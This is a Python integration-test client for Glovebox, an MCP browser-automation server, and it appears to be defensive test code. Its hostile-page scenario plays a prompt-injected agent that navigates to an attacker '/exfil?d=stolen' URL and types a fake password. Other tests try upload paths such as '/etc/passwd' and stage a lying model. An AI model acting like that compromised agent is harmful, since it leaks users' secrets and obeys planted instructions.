"""A real MCP client (the official Python SDK) driving Glovebox for the integration tests.

usage: client.py SCENARIO (--url URL [--token T] | --stdio CMD...) [--fixture URL]...
Prints one JSON object per line on stdout; the Rust tests assert on them. Scenarios that need a
person wait for a line on stdin (the test plays the person).
"""

import argparse
import subprocess
import asyncio
import base64
import json
import re
import struct
import sys
from contextlib import asynccontextmanager

from mcp import ClientSession, StdioServerParameters, types
from mcp.client.stdio import stdio_client
from mcp.client.streamable_http import streamablehttp_client


def emit(obj):
    print(json.dumps(obj), flush=True)


@asynccontextmanager
async def connect(args, elicit=None, on_message=None):
    extra = {"message_handler": on_message} if on_message else {}
    if args.url:
        headers = {"Authorization": f"Bearer {args.token}"} if args.token else None
        async with streamablehttp_client(args.url, headers=headers) as (read, write, _):
            async with ClientSession(read, write, elicitation_callback=elicit, **extra) as session:
                init = await session.initialize()
                yield session, init
    else:
        params = StdioServerParameters(command=args.stdio[0], args=args.stdio[1:], env=None)
        async with stdio_client(params) as (read, write):
            async with ClientSession(read, write, elicitation_callback=elicit, **extra) as session:
                init = await session.initialize()
                yield session, init


async def call(session, name, arguments=None):
    result = await session.call_tool(name, arguments or {})
    texts = [c.text for c in result.content if c.type == "text"]
    images = [c.mimeType for c in result.content if c.type == "image"]
    header = json.loads(texts[0]) if texts else {}
    page = None
    for t in texts[1:]:
        m = re.fullmatch(r'<untrusted nonce=([0-9a-f]{12})>\n(.*)\n</untrusted nonce=\1>', t, re.S)
        if not m:
            continue
        if name in ("surfaces", "tabs"):
            page = json.loads(m.group(2))
        elif name in ("observe", "act") and not m.group(2).startswith("{"):
            # Text for the model: the url and title line, then the snapshot; the frame id is in the header.
            page = {"aria_snapshot": m.group(2), "frame_id": header.get("frame_id")}
    if page is not None and name in ("observe", "act"):
        # An action's result may be the changes since the observation it named; refs are stable,
        # so what the client read before (its last whole snapshot) still names the rest.
        key = (id(session), (arguments or {}).get("surface"))
        if header.get("snapshot") == "changes":
            page["base"] = LAST_WHOLE.get(key, "")
        else:
            LAST_WHOLE[key] = page["aria_snapshot"]
    return {"error": bool(result.isError), "header": header, "page": page, "texts": texts, "images": images}


# The last whole snapshot each session read, per surface argument.
LAST_WHOLE = {}


async def shows(session, result, text):
    """Whether the page shows `text`: in the observation the action returned, or else in the next
    one (settling is bounded; a slower page effect shows up in the next observation, as the
    runtime documents)."""
    if result["page"] and text in result["page"]["aria_snapshot"]:
        return True
    later = await call(session, "observe")
    return bool(later["page"]) and text in later["page"]["aria_snapshot"]


def ref(observation, role, name):
    pattern = rf'^[+~]? *{role} "{re.escape(name)}" \[(e\d+)[ \]]'
    m = re.search(pattern, observation["aria_snapshot"], re.M) or re.search(pattern, observation.get("base", ""), re.M)
    if not m:
        raise SystemExit(f"no {role} {name!r} in:\n{observation['aria_snapshot']}")
    return m.group(1)


async def scenario_tools(args):
    async with connect(args) as (session, init):
        tools = await session.list_tools()
        emit({
            "protocol": init.protocolVersion,
            "server": init.serverInfo.name,
            "tools": [t.model_dump(by_alias=True, exclude_none=True, mode="json") for t in tools.tools],
        })


async def scenario_flow(args):
    form = args.fixture[0]
    async with connect(args) as (session, _):
        opened = await call(session, "tab_open", {"url": form})
        first = await call(session, "observe", {"screenshot": True})
        obs = first["page"]
        name_ref = ref(obs, "textbox", "Name")
        typed = await call(session, "act", {"action": {"type": "type", "expected_frame_id": obs["frame_id"], "target": {"kind": "element", "ref": name_ref}, "text": "Ada", "intent": "fill the name"}})
        after_type = typed["page"]
        button = ref(after_type, "button", "Create account")
        clicked = await call(session, "act", {"action": {"type": "click", "expected_frame_id": after_type["frame_id"], "target": {"kind": "element", "ref": button}, "intent": "submit"}})
        stale = await call(session, "act", {"surface": "s1", "action": {"type": "click", "expected_frame_id": obs["frame_id"], "target": {"kind": "element", "ref": name_ref}, "intent": "stale"}})
        invalid = await call(session, "act", {"action": {"type": "click"}})
        ill_typed = await call(session, "observe", {"screenshot": "yes"})
        near_missing = (await call(session, "observe", {"near": "words on no page"}))["page"]
        near_too_long = await call(session, "observe", {"near": "x" * 201})
        unknown = await call(session, "tab_mark", {"surface": "s1", "mark": "deliverable", "forever": True})
        welcome = await shows(session, clicked, "Welcome, Ada!")
        surfaces = await call(session, "surfaces")
        top = (await call(session, "observe"))["page"]
        scrolled_up = await call(session, "act", {"action": {"type": "scroll", "expected_frame_id": top["frame_id"], "delta_y": -300, "intent": "up at the top"}, "full_snapshot": True})
        emit({
            "typed_snapshot": typed["header"].get("snapshot"),
            "typed_changes": after_type["aria_snapshot"].split("\n")[1] if "\n" in after_type["aria_snapshot"] else "",
            "full_on_request": scrolled_up["header"].get("snapshot"),
            "scroll_at_top_error": scrolled_up["error"],
            "scroll_at_top": scrolled_up["header"],
            "opened": opened["header"],
            "observe_header": first["header"],
            "observe_images": first["images"],
            "typed_header": typed["header"],
            "typed_value_shown": 'textbox "Name"' in after_type["aria_snapshot"] and "Ada" in after_type["aria_snapshot"],
            "clicked_error": clicked["error"],
            "clicked_header": clicked["header"],
            "welcome": welcome,
            "stale": stale["header"],
            "stale_error": stale["error"],
            "invalid": invalid["header"],
            "ill_typed": ill_typed["header"],
            "near_missing": "nothing here matches near" in near_missing["aria_snapshot"],
            "near_too_long": near_too_long["header"],
            "unknown": unknown["header"],
            "surfaces_header": surfaces["header"],
            "wrapped_untrusted": all(t.startswith("<untrusted nonce=") for t in first["texts"][1:]),
        })


async def scenario_approval(args):
    form = args.fixture[0]
    async with connect(args) as (session, _):
        # Opening a page on an origin nobody trusts is a navigation a person approves.
        opening = await call(session, "tab_open", {"url": form})
        emit({"open_error": opening["error"], "open": opening["header"]})
        sys.stdin.readline()  # the person allows the page
        await call(session, "tab_open", {"url": form})
        obs = (await call(session, "observe"))["page"]
        button = ref(obs, "button", "Create account")
        action = {"type": "click", "expected_frame_id": obs["frame_id"], "target": {"kind": "element", "ref": button}, "intent": "submit"}
        pending = await call(session, "act", {"action": action})
        emit({"pending_error": pending["error"], "pending": pending["header"]})
        sys.stdin.readline()  # the person decides
        again = await call(session, "act", {"action": action})
        emit({"again_error": again["error"], "again": again["header"], "welcome": await shows(session, again, "Welcome")})


async def scenario_elicit(args):
    asked = []

    async def person(context, params):
        asked.append(params.message)
        return types.ElicitResult(action="accept", content={"approve": True, "for_this_site": False})

    form = args.fixture[0]
    async with connect(args, elicit=person) as (session, _):
        await call(session, "tab_open", {"url": form})
        obs = (await call(session, "observe"))["page"]
        button = ref(obs, "button", "Create account")
        done = await call(session, "act", {"action": {"type": "click", "expected_frame_id": obs["frame_id"], "target": {"kind": "element", "ref": button}, "intent": "submit"}})
        emit({"asked": asked, "error": done["error"], "header": done["header"], "welcome": await shows(session, done, "Welcome")})


async def scenario_isolation(args):
    set_url, show_url = args.fixture[0], args.fixture[1]

    async def client(who, url):
        async with connect(args) as (session, _):
            await call(session, "tab_open", {"url": url})
            obs = (await call(session, "observe"))["page"]
            if who == "a":
                await call(session, "tab_open", {"url": show_url})
                obs = (await call(session, "observe"))["page"]
            tabs = await call(session, "tabs")
            button = ref(obs, "button", "Touch")
            acted = await call(session, "act", {"action": {"type": "click", "expected_frame_id": obs["frame_id"], "target": {"kind": "element", "ref": button}, "intent": "touch"}})
            return {"snapshot": obs["aria_snapshot"], "tabs": tabs["header"]["tabs"], "act_error": acted["error"], "act": acted["header"]}

    a, b = await asyncio.gather(client("a", set_url), client("b", show_url))
    emit({"a": a, "b": b})


async def scenario_lifecycle(args):
    """A person's tab claimed, used and given back; an agent tab marked as a deliverable survives
    the cleanup, an unmarked one does not; a second session cannot take the claimed tab."""
    other_page, spare_page = args.fixture[0], args.fixture[1]
    out = {}
    async with connect(args) as (session, _), connect(args) as (rival, _):
        out["fresh_status"] = (await call(session, "status"))["header"]
        listed = await call(session, "tabs")
        out["user_tabs_before"] = listed["header"]["user_tabs"]
        user_tab = out["user_tabs_before"][0]
        out["listed_urls"] = [t["url"] for t in listed["page"]["user_tabs"]]
        claimed = await call(session, "tab_claim", {"tab": user_tab})
        out["claimed"] = claimed["header"]
        out["rival_claim"] = (await call(rival, "tab_claim", {"tab": user_tab}))["header"]
        out["rival_sees"] = (await call(rival, "tabs"))["header"]["user_tabs"]
        obs = (await call(session, "observe", {"surface": "s1"}))["page"]
        button = ref(obs, "button", "Add one")
        acted = await call(session, "act", {"surface": "s1", "action": {"type": "click", "expected_frame_id": obs["frame_id"], "target": {"kind": "element", "ref": button}, "intent": "count"}})
        out["clicked"] = "1 clicks" in acted["page"]["aria_snapshot"]
        await call(session, "tab_open", {"url": other_page})
        await call(session, "tab_open", {"url": spare_page})
        out["marked"] = (await call(session, "tab_mark", {"surface": "s2", "mark": "deliverable"}))["header"]
        out["bad_mark"] = (await call(session, "tab_mark", {"surface": "s3", "mark": "forever"}))["header"]
        out["release_own_tab"] = (await call(session, "tab_release", {"surface": "s2"}))["header"]
        out["unknown_argument"] = (await call(session, "status", {"verbose": True}))["header"]
        out["status"] = (await call(session, "status"))["header"]
        out["cleanup"] = (await call(session, "cleanup"))["header"]
        out["status_after_cleanup"] = (await call(session, "status"))["header"]
        after = await call(session, "tabs")
        out["tabs_after"] = after["header"]["tabs"]
        out["user_tabs_after"] = after["header"]["user_tabs"]
        # Claimed again and released by hand: back in the list, still open.
        # Keys are never reused: the claim gets a new key, and the old one names nothing.
        reclaimed = (await call(session, "tab_claim", {"tab": user_tab}))["header"]
        out["old_key"] = (await call(session, "observe", {"surface": "s1"}))["header"]
        out["released"] = (await call(session, "tab_release", {"surface": reclaimed["surface"]}))["header"]
        out["user_tabs_end"] = (await call(session, "tabs"))["header"]["user_tabs"]
    emit(out)


async def scenario_computer_use(args):
    form = args.fixture[0]
    async with connect(args) as (session, _):
        names = [t.name for t in (await session.list_tools()).tools]
        checks = [{"kind": "text_present", "text": "Welcome, Ada!"}, {"kind": "element_value", "name": "Name", "value": "Ada"}]
        run = await call(session, "computer_use", {"task": "Sign up as Ada", "url": form, "max_steps": 6, "max_seconds": 60, "success_when": checks})
        unverifiable = await call(session, "computer_use", {"task": "Sign up as Ada", "max_steps": 3, "max_seconds": 60})
        garbage = await call(session, "computer_use", {"task": "answer garbage", "max_steps": 3, "max_seconds": 60})
        bad = await call(session, "computer_use", {"task": "x", "max_steps": 0})
        emit({"listed": "computer_use" in names, "run": run["header"], "run_text": run["texts"][1:], "unverifiable": unverifiable["header"],
              "garbage": garbage["header"], "garbage_text": garbage["texts"][1:], "bad": bad["header"]})


async def scenario_cancel_run(args):
    """Starts a slow computer_use run and cancels the request (notifications/cancelled)."""
    form = args.fixture[0]
    async with connect(args) as (session, _):
        await session.list_tools()
        request_id = session._request_id  # the id the next request gets
        task = asyncio.create_task(session.call_tool("computer_use", {"task": "slow sign-up", "url": form, "max_steps": 6, "max_seconds": 60,
                                                                      "success_when": [{"kind": "text_present", "text": "Welcome"}]}))
        await asyncio.sleep(1.0)
        await session.send_notification(types.ClientNotification(types.CancelledNotification(
            params=types.CancelledNotificationParams(requestId=request_id, reason="the user changed their mind"))))
        # A cancelled request gets no answer; give it a moment, then leave.
        done, _ = await asyncio.wait({task}, timeout=3)
        emit({"cancel_sent": True, "answered": bool(done)})
        sys.stdin.readline()  # the test checks the run, then lets the client go
        task.cancel()


async def scenario_bench(args):
    import time
    async with connect(args) as (session, _):
        await call(session, "tab_open", {"url": args.fixture[0]})
        for _ in range(5):
            await session.call_tool("observe", {})
        times = []
        for _ in range(args.iterations):
            t = time.perf_counter()
            await session.call_tool("observe", {})
            times.append((time.perf_counter() - t) * 1000)
        times.sort()
        emit({"observe_ms_median": times[len(times) // 2], "observe_ms_p90": times[int(len(times) * 0.9)], "n": len(times)})


async def scenario_keep(args):
    """Tabs kept for the person (deliverables): one navigated later to a URL with a query and a
    fragment, one opened with a ?token= in its URL, one the person will close, and a blank one
    (no address to reopen). Then waits to be killed with its server."""
    first, token_url, other, later = args.fixture
    out = {}
    async with connect(args) as (session, _):
        a = (await call(session, "tab_open", {"url": first}))["header"]["opened"]
        b = (await call(session, "tab_open", {"url": token_url}))["header"]["opened"]
        c = (await call(session, "tab_open", {"url": other}))["header"]["opened"]
        blank = (await call(session, "tab_open", {"url": "about:blank"}))["header"]["opened"]  # nothing to reopen
        page = (await call(session, "observe", {"surface": a}))["page"]
        moved = await call(session, "act", {"surface": a, "action": {"type": "navigate", "expected_frame_id": page["frame_id"], "url": later, "intent": "the second page"}})
        out["moved"] = moved["header"]
        out["old_frame"] = moved["header"].get("frame_id")
        for s in (a, b, c, blank):
            out[s] = (await call(session, "tab_mark", {"surface": s, "mark": "deliverable"}))["header"]
        out["surfaces"] = [a, b, c]
        emit(out)
        sys.stdin.readline()  # killed here


async def scenario_restored(args):
    """After a restart: the kept tabs are offered to a new session, which claims them and sees
    their pages afresh; a frame id from before the restart is refused."""
    old_frame = args.fixture[0]
    out = {}
    async with connect(args) as (session, _):
        offered = (await call(session, "tabs"))["header"]["user_tabs"]
        out["offered"] = offered
        for t in offered:
            claimed = (await call(session, "tab_claim", {"tab": t}))["header"]
            page = (await call(session, "observe", {"surface": claimed["surface"]}))
            out.setdefault("pages", []).append({"tab": t, "page": page["page"]["aria_snapshot"] if page["page"] else None,
                                                "frame": page["header"].get("frame_id")})
            stale = await call(session, "act", {"surface": claimed["surface"], "action": {"type": "scroll", "expected_frame_id": old_frame, "delta_y": 100, "intent": "old"}})
            out.setdefault("stale", []).append(stale["header"].get("error"))
        emit(out)


async def scenario_hold(args):
    """Leaves records mid-task, then waits to be killed with its server: a claimed person's
    tab, a deliverable, an unmarked agent tab and an approval nobody answered."""
    kept, temp, untrusted = args.fixture[0], args.fixture[1], args.fixture[2]
    out = {}
    async with connect(args) as (session, _):
        user_tab = (await call(session, "tabs"))["header"]["user_tabs"][0]
        out["claimed"] = (await call(session, "tab_claim", {"tab": user_tab}))["header"]
        out["kept"] = (await call(session, "tab_open", {"url": kept}))["header"]
        out["marked"] = (await call(session, "tab_mark", {"surface": out["kept"]["opened"], "mark": "deliverable"}))["header"]
        out["temp"] = (await call(session, "tab_open", {"url": temp}))["header"]
        out["pending"] = (await call(session, "tab_open", {"url": untrusted}))["header"]
        # A receipt that is on record before the kill.
        page = (await call(session, "observe", {"surface": out["temp"]["opened"]}))["page"]
        typed = await call(session, "act", {"surface": out["temp"]["opened"], "action": {"type": "type", "expected_frame_id": page["frame_id"],
            "target": {"kind": "element", "ref": ref(page, "textbox", "Email")}, "text": "ada-typed-7f3@example.org", "intent": "the email"}})
        out["typed"] = typed["header"]
        emit(out)
        sys.stdin.readline()  # the browser is frozen now: an action whose answer never comes
        after = typed["page"]
        asyncio.create_task(call(session, "act", {"surface": out["temp"]["opened"], "action": {"type": "click", "expected_frame_id": after["frame_id"],
            "target": {"kind": "element", "ref": ref(after, "checkbox", "Remember me")}, "intent": "stay signed in"}}))
        await asyncio.sleep(0.5)
        emit({"sent": True})
        await asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline)  # killed here


async def scenario_turns(args):
    """Turns ended from outside (the test plays the client's turn-complete hook): an unmarked
    agent tab closes at the turn end, a marked one is kept for that turn only; a cleanup that
    fails is a tool error; a context reset switches the tools off (tools/list_changed), a call
    from the old tool list is refused, and browser_activate switches them on again."""
    notes = []

    async def on_message(message):
        if isinstance(message, types.ServerNotification) and isinstance(message.root, types.ToolListChangedNotification):
            notes.append("tools/list_changed")

    out = {}
    async with connect(args, on_message=on_message) as (session, _):
        out["tools_before"] = len((await session.list_tools()).tools)
        opened = await call(session, "tab_open", {"url": args.fixture[0]})
        if "opened" not in opened["header"]:
            raise SystemExit(f"tab_open failed: {opened}")
        kept = opened["header"]["opened"]
        temp = (await call(session, "tab_open", {"url": args.fixture[1]}))["header"]["opened"]
        out["opened"] = [kept, temp]
        out["marked"] = (await call(session, "tab_mark", {"surface": kept, "mark": "deliverable"}))["header"]
        # A surfaces call in the middle of a turn does not start another turn.
        await call(session, "surfaces")
        emit({"step": "first turn"})
        sys.stdin.readline()  # the hook ends the turn
        out["after_first"] = (await call(session, "tabs"))["header"]["tabs"]
        emit({"step": "second turn"})
        sys.stdin.readline()  # ends again: the mark was not renewed
        out["after_second"] = (await call(session, "tabs"))["header"]["tabs"]
        out["opened_again"] = (await call(session, "tab_open", {"url": args.fixture[1]}))["header"].get("opened")
        emit({"step": "freeze"})
        sys.stdin.readline()  # the browser is frozen now
        cleanup = await call(session, "cleanup")
        out["failed_cleanup"] = {"is_error": cleanup["error"], **cleanup["header"]}
        emit({"step": "thaw"})
        sys.stdin.readline()  # the browser runs again
        reset = await call(session, "context_reset")
        out["reset"] = {"is_error": reset["error"], **reset["header"]}
        for _ in range(50):
            if notes:
                break
            await asyncio.sleep(0.05)
        out["notified"] = list(notes)
        out["tools_after_reset"] = [t.name for t in (await session.list_tools()).tools]
        stale = await call(session, "tab_open", {"url": args.fixture[0]})
        out["stale_call"] = {"is_error": stale["error"], **stale["header"]}
        activated = await call(session, "browser_activate")
        out["activated"] = activated["header"]
        out["tools_after_activate"] = len((await session.list_tools()).tools)
        out["works_again"] = (await call(session, "tab_open", {"url": args.fixture[0]}))["header"].get("opened")
    emit(out)


async def scenario_turn_hook(args):
    """A client whose turn-complete hook runs `glovebox turn-end`, as Claude Code's `Stop` hook
    and Codex's `notify` do: as the client's own child. Two tabs, one marked; then, line by line
    from the test: `hook [ARG…]` runs the hook (the words after `hook` are its arguments) and
    reports what it printed, `tabs` lists the tabs left, `done` ends."""
    async with connect(args) as (session, _):
        opened = await call(session, "tab_open", {"url": args.fixture[0]})
        if "opened" not in opened["header"]:
            raise SystemExit(f"tab_open failed: {opened}")
        kept = opened["header"]["opened"]
        await call(session, "tab_open", {"url": args.fixture[1]})
        await call(session, "tab_mark", {"surface": kept, "mark": "handoff"})
        emit({"kept": kept})
        # The server's own command line without its subcommand: the same binary and data
        # directory, as a hook configured beside it names them.
        hook = args.stdio[:-1] + ["turn-end"]
        while True:
            line = sys.stdin.readline().split()
            if not line or line[0] == "done":
                break
            if line[0] == "hook":
                ran = subprocess.run(hook + line[1:], capture_output=True, text=True, timeout=60)
                emit({"code": ran.returncode, "stdout": ran.stdout, "stderr": ran.stderr})
            elif line[0] == "tabs":
                emit({"tabs": (await call(session, "tabs"))["header"]["tabs"]})


async def scenario_sampling(args):
    """computer_use planned with this client's own model: the sampling callback plays the model
    (it fills the form's Name and submits). A model that claims success at once while the page
    shows nothing is not believed: the runtime's checks decide."""
    form = args.fixture[0]
    seen = []

    images = []

    async def model(context, params):
        blocks = [c for m in params.messages[-1:] for c in ([m.content] if not isinstance(m.content, list) else m.content)]
        text = "".join(c.text for c in blocks if c.type == "text")
        image = next((c for c in blocks if c.type == "image"), None)
        seen.append({"system": bool(params.systemPrompt), "messages": len(params.messages), "wrapped": "<untrusted nonce=" in text})
        frame = re.search(r"frame_id: (frame_[0-9a-f]+)", text).group(1)
        if "red square" in text.split("The page:")[0]:
            # The canvas task: ask to look, then click the square read off the screenshot (its CSS
            # box is (300, 200)–(340, 240); the message states the image's size).
            if "Hit the red square" in text:
                answer = {"done": "clicked it", "checks": [{"kind": "text_present", "text": "Hit the red square"}]}
            elif image is None:
                answer = {"look": True}
            else:
                png = base64.b64decode(image.data)
                width, height = struct.unpack(">II", png[16:24])
                images.append({"mime": image.mimeType, "png": png[:8] == b"\x89PNG\r\n\x1a\n", "size": [width, height]})
                sizes = re.search(r"follows: (\d+)×(\d+) image pixels for (\d+)×(\d+) CSS pixels", text)
                iw, ih, cw, ch = (float(g) for g in sizes.groups())
                answer = {"action": {"type": "click", "expected_frame_id": frame, "target": {"kind": "point", "x": round(320 * iw / cw), "y": round(220 * ih / ch)},
                                     "intent": "click the red square"}}
            return types.CreateMessageResult(role="assistant", content=types.TextContent(type="text", text=json.dumps(answer)), model="test-model")
        name = re.search(r'textbox "Name" \[(e\d+)[^\]]*\](: "([^"]*)")?', text)
        button = re.search(r'button "Create account" \[(e\d+)', text)
        if "lie" in text or "Welcome" in text:
            answer = {"done": "signed up"}
        elif name and not name.group(3):
            answer = {"action": {"type": "type", "expected_frame_id": frame, "target": {"kind": "element", "ref": name.group(1)}, "text": "Ada", "intent": "fill in the name"}}
        elif button:
            answer = {"action": {"type": "click", "expected_frame_id": frame, "target": {"kind": "element", "ref": button.group(1)}, "intent": "create the account"}}
        else:
            answer = {"give_up": "no form"}
        return types.CreateMessageResult(role="assistant", content=types.TextContent(type="text", text=json.dumps(answer)), model="test-model")

    if args.url:
        cm = streamablehttp_client(args.url)
    else:
        raise SystemExit("http only")
    async with cm as (read, write, _):
        async with ClientSession(read, write, sampling_callback=model) as session:
            await session.initialize()
            names = [t.name for t in (await session.list_tools()).tools]
            checks = [{"kind": "text_present", "text": "Welcome, Ada!"}]
            run = await call(session, "computer_use", {"task": "Sign up as Ada", "url": form, "max_steps": 6, "max_seconds": 60, "success_when": checks})
            liar = await call(session, "computer_use", {"task": "lie: say it is done", "url": form, "max_steps": 3, "max_seconds": 60,
                                                        "success_when": [{"kind": "text_present", "text": "Welcome, Bob!"}]})
            canvas = await call(session, "computer_use", {"task": "Click the red square in the picture", "url": args.fixture[1], "max_steps": 6, "max_seconds": 60})
    emit({"listed": "computer_use" in names, "run": run["header"], "liar": liar["header"], "seen": seen, "canvas": canvas["header"], "images": images})


async def scenario_secret(args):
    """computer_use with a secret the person gives apart from the task (issue 29): the sampling
    model types its placeholder and never sees the value, which goes only to the named origin;
    secrets that cannot be used are refused before a run starts."""
    page, origin, secret = args.fixture
    seen = []

    async def model(context, params):
        blocks = [c for m in params.messages for c in ([m.content] if not isinstance(m.content, list) else m.content)]
        text = "".join(c.text for c in blocks if c.type == "text") + (params.systemPrompt or "")
        seen.append(text)
        frame = re.findall(r"frame_id: (frame_[0-9a-f]+)", text)[-1]
        field = re.search(r'textbox "Password" \[(e\d+)', text)
        if "Welcome back" in text:
            answer = {"done": "signed in"}
        elif field:
            answer = {"action": {"type": "type", "expected_frame_id": frame, "target": {"kind": "element", "ref": field.group(1)},
                                 "text": "<secret>password</secret>", "intent": "type the password"}}
        else:
            answer = {"give_up": "no field"}
        return types.CreateMessageResult(role="assistant", content=types.TextContent(type="text", text=json.dumps(answer)), model="test-model")

    async with streamablehttp_client(args.url, headers={"Authorization": f"Bearer {args.token}"} if args.token else None) as (read, write, _):
        async with ClientSession(read, write, sampling_callback=model) as session:
            await session.initialize()
            secrets = {"password": {"value": secret, "origins": [origin]}}
            checks = [{"kind": "text_present", "text": "Welcome back"}]
            run = await call(session, "computer_use", {"task": f"Sign in with password {secret}", "url": page, "max_steps": 4,
                                                      "max_seconds": 60, "success_when": checks, "secrets": secrets})
            not_web = await call(session, "computer_use", {"task": "x", "url": page, "max_steps": 2, "max_seconds": 30,
                                                          "secrets": {"password": {"value": secret, "origins": ["file:///etc"]}}})
            short = await call(session, "computer_use", {"task": "x", "url": page, "max_steps": 2, "max_seconds": 30,
                                                        "secrets": {"password": {"value": "abc", "origins": [origin]}}})
    emit({"run": run["header"], "texts": run["texts"], "seen": seen, "not_web": not_web["header"], "short": short["header"]})


async def scenario_dialog(args):
    """A click that opens confirm(): the act returns its receipt naming the dialog and the blocked
    page's observation (the dialog, with a frame); a dialog action on that frame answers it."""
    async with connect(args) as (session, _):
        await call(session, "tab_open", {"url": args.fixture[0]})
        obs = (await call(session, "observe"))["page"]
        button = ref(obs, "button", "Confirm me")
        clicked = await call(session, "act", {"action": {"type": "click", "expected_frame_id": obs["frame_id"], "target": {"kind": "element", "ref": button}, "intent": "ask"}})
        receipt = json.loads(re.fullmatch(r'<untrusted nonce=([0-9a-f]{12})>\n(.*)\n</untrusted nonce=\1>', clicked["texts"][1], re.S).group(2))
        blocked = clicked["page"]
        answered = await call(session, "act", {"action": {"type": "dialog", "expected_frame_id": blocked["frame_id"], "accept": False, "intent": "decline"}})
        emit({"clicked": clicked["header"], "error": clicked["error"], "dialog": receipt.get("dialog"), "blocked": blocked["aria_snapshot"],
              "answered": answered["header"], "after": answered["page"]["aria_snapshot"].splitlines()[0]})


async def scenario_popups(args):
    """A click that opens a window: the act's receipt names the session's new tab by its key;
    `status` lists it with its opener; `cleanup` closes it with the session's other tabs."""
    async with connect(args) as (session, _):
        await call(session, "tab_open", {"url": args.fixture[0]})
        obs = (await call(session, "observe"))["page"]
        button = ref(obs, "button", "Open help")
        clicked = await call(session, "act", {"action": {"type": "click", "expected_frame_id": obs["frame_id"], "target": {"kind": "element", "ref": button}, "intent": "help"}})
        receipt = json.loads(re.fullmatch(r'<untrusted nonce=([0-9a-f]{12})>\n(.*)\n</untrusted nonce=\1>', clicked["texts"][1], re.S).group(2))
        status = await call(session, "status")
        popup = next((t for t in status["header"]["tabs"] if t["opened_by"]), None)
        seen = await call(session, "observe", {"surface": popup["surface"]}) if popup else None
        cleaned = await call(session, "cleanup")
        after = await call(session, "status")
        emit({"error": clicked["error"], "opened": receipt.get("opened"), "opened_tabs": receipt.get("opened_tabs"),
              "popup": popup, "seen_error": seen["error"] if seen else None, "cleanup_error": cleaned["error"],
              "after": after["header"]["tabs"]})


async def scenario_files(args):
    """A download and uploads over MCP: each is R3 and waits for a person; the download comes back
    as an artifact id (never a path); an upload reads only from the upload root, by relative name."""
    def untrusted_json(result, i=1):
        return json.loads(re.fullmatch(r'<untrusted nonce=([0-9a-f]{12})>\n(.*)\n</untrusted nonce=\1>', result["texts"][i], re.S).group(2))

    out = {}
    async with connect(args) as (session, _):
        await call(session, "tab_open", {"url": args.fixture[0]})
        obs = (await call(session, "observe"))["page"]
        download = {"type": "click", "expected_frame_id": obs["frame_id"], "target": {"kind": "text", "text": "Download report"},
                    "expect_download": True, "intent": "get the report"}
        out["download_pending"] = (await call(session, "act", {"action": download}))["header"]
        emit(out)
        sys.stdin.readline()  # a person approves
        done = await call(session, "act", {"action": download})
        out["downloaded"] = {"error": done["error"], "header": done["header"], "receipt": untrusted_json(done), "texts": done["texts"]}
        obs = done["page"]
        attach = ref(obs, "button", "Attachment") if 'button "Attachment"' in obs["aria_snapshot"] else None
        target = {"kind": "element", "ref": attach} if attach else {"kind": "label", "text": "Attachment"}
        upload = {"type": "upload", "expected_frame_id": obs["frame_id"], "target": target, "files": ["notes.txt"], "intent": "attach the notes"}
        out["upload_pending"] = (await call(session, "act", {"action": upload}))["header"]
        emit(out)
        sys.stdin.readline()  # a person approves
        up = await call(session, "act", {"action": upload})
        out["uploaded"] = {"error": up["error"], "header": up["header"]}
        after = up["page"] or (await call(session, "observe"))["page"]
        outside = []
        for name in ["../outside.txt", "/etc/passwd", "sub/../../outside.txt"]:
            bad = dict(upload, expected_frame_id=after["frame_id"], files=[name])
            r = await call(session, "act", {"action": bad})
            outside.append({"error": r["error"], "header": r["header"]})
        out["outside"] = outside
        emit(out)


async def scenario_hostile(args):
    """A fully compromised agent on hostile pages: it does whatever the pages ask and, when refused,
    tries the other routes it has — clicking every element, opening and navigating to every URL
    the page names, typing a secret and asking for screenshots. It reports what each attempt got
    back and every text it was shown; the Rust test reads the attacker's request log."""
    pages, attacker = args.fixture[:-1], args.fixture[-1]
    attempts, shown = [], []

    def note(page, what, result):
        attempts.append({"page": page, "what": what, "error": result["error"], "code": result["header"].get("error"), "message": result["header"].get("message") or " ".join(result["texts"][1:])[:300]})
        shown.extend(result["texts"])

    async with connect(args) as (session, _):
        for page in pages:
            opened = await call(session, "tab_open", {"url": page})
            note(page, "open", opened)
            here = {"surface": opened["header"]["opened"]} if opened["header"].get("opened") else {}
            obs = (await call(session, "observe", {"screenshot": True, **here}))
            shown.extend(obs["texts"])
            snapshot = obs["page"]["aria_snapshot"] if obs["page"] else ""
            # What the page asks for: every URL it names, opened and navigated to.
            for url in sorted(set(re.findall(r"https?://[^\s\"'<>)]+", snapshot + " " + attacker + "/exfil?d=stolen"))):
                if url.startswith(attacker):
                    note(page, f"tab_open {url}", await call(session, "tab_open", {"url": url}))
                    current = (await call(session, "observe", here))["page"]
                    if current and current.get("frame_id"):
                        note(page, f"navigate {url}", await call(session, "act", {**here, "action": {"type": "navigate", "expected_frame_id": current["frame_id"], "url": url, "intent": "the page said so"}}))
            # Every element, clicked; every text field, filled with the user's secret.
            refs = re.findall(r'^ *(\w+) "([^"]*)" \[(e\d+)', snapshot, re.M)
            for role, name, element in refs:
                current = (await call(session, "observe", here))["page"]
                if not (current and current.get("frame_id")):
                    break
                if role == "textbox":
                    text = "hunter2-secret" if "Password" in name else "hello"
                    action = {"type": "type", "expected_frame_id": current["frame_id"], "target": {"kind": "element", "ref": element}, "text": text, "intent": "as asked"}
                else:
                    action = {"type": "click", "expected_frame_id": current["frame_id"], "target": {"kind": "element", "ref": element}, "intent": "as asked"}
                note(page, f"{action['type']} {role} {name}", await call(session, "act", {**here, "action": action}))
                # Back to the page if it moved.
                current = (await call(session, "observe", here))["page"]
                if current and current.get("frame_id"):
                    await call(session, "act", {**here, "action": {"type": "navigate", "expected_frame_id": current["frame_id"], "url": page, "intent": "back"}})
            again = await call(session, "observe", {"screenshot": True, **here})
            shown.extend(again["texts"])
        await asyncio.sleep(2.5)  # past the network boundary's tail of the last action
    emit({"attempts": attempts, "shown": shown})


async def scenario_desktop(args):
    """A desktop window a person offered: claimed, seen in the turn's surfaces as a window with
    its input routes, observed, typed into after the person grants the app, submitted; a stale
    frame and a navigation are refused with their codes."""
    out = {}
    async with connect(args) as (session, _):
        offered = (await call(session, "tabs"))["header"]["user_tabs"]
        out["offered"] = offered
        claimed = (await call(session, "tab_claim", {"tab": offered[0]}))["header"]
        out["claimed"] = claimed
        surfaces = await call(session, "surfaces")
        out["surfaces"] = surfaces["page"]
        obs = None
        for _ in range(100):
            obs = (await call(session, "observe"))["page"]
            if 'textbox "Name"' in obs["aria_snapshot"]:
                break
            await asyncio.sleep(0.05)
